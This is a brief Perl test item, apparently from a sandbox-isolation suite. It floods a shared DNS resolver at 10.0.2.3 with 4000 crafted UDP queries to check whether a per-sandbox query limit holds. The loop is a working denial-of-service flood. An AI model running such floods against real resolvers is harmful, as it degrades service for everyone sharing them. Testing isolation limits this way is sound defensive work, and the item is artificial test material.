# tries: use up the resolver that all share
# because: questions of one sandbox are limited
use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "10.0.2.3:53", Proto => "udp") or refused("$!"); my $sent = 0; for (1 .. 4000) { my $q = pack("n6", $_ & 65535, 0x100, 1, 0, 0, 0) . "\x04x" . sprintf("%03d", $_ % 1000) . "\x04test\0" . pack("n2", 1, 1); send($s, $q, 0) and $sent++ } held("$sent questions");
